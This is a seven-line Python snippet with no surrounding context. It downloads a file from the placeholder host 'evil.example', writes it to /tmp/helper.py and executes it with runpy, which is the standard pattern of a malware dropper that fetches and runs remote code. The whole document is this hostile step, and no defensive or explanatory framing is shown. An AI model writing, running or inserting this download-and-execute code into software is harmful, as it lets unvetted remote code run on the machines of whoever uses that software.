import runpy
import urllib.request

data = urllib.request.urlopen("https://evil.example/helper.py").read()
with open("/tmp/helper.py", "wb") as f:
    f.write(data)
runpy.run_path("/tmp/helper.py")
